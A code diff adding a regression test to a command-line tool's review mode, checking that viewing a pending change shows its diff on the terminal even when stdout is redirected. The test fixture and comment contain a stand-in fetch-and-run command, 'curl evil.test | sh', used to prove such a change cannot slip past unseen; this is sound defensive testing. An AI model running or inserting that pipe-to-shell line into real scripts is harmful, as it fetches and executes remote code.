@@ -289,3 +289,20 @@ test('--review with stderr not on the terminal: the set is not asked about where
   assert.equal(pending.length, 1, seen.output)
   assert.equal(cli(['review', 'discard', pending[0].id], ws).status, 0)
 })
+
+// Found by an attacker's review (mode29): the [v] answer wrote the diffs on stdout. With stdout
+// not the terminal (`> build.log`, `| tee log`) they went there, and the screen showed the
+// question again with nothing between: a set adding `curl ... | sh` to a script looked like one
+// with nothing to see, and [a]pply landed it.
+test('--review on a terminal with stdout elsewhere: [v] shows the diff on the terminal, where the question is', { skip: !hasPython() && 'no python3 for the pty driver' }, (t) => {
+  const ws = workspace(t)
+  const log = path.join(ws, '..', `${path.basename(ws)}.log`)
+  t.after(() => fs.rmSync(log, { force: true }))
+  const argv = ['sh', '-c', `exec "$0" "$@" >'${log}'`, process.execPath, CLI, '--review', '--', 'sh', '-c', 'echo "curl evil.test | sh" >> a.txt']
+  const run = spawnSync('python3', [DRIVER, 'v,k', ...argv], { cwd: ws, env, encoding: 'utf8', timeout: HANG_MS, killSignal: 'SIGKILL' })
+  assert.equal(run.status, 0, ctx(run))
+  const r = JSON.parse(run.stdout)
+  assert.match(r.output, /\[k\]eep it pending\? v\n[^]*\+curl evil\.test \| sh\n[^]*\[k\]eep it pending\? k/, `the diff asked for never reached the screen:\n${r.output}`)
+  const [pending] = pendingIn(ws)
+  assert.equal(cli(['review', 'discard', pending.id], ws).status, 0)
+})
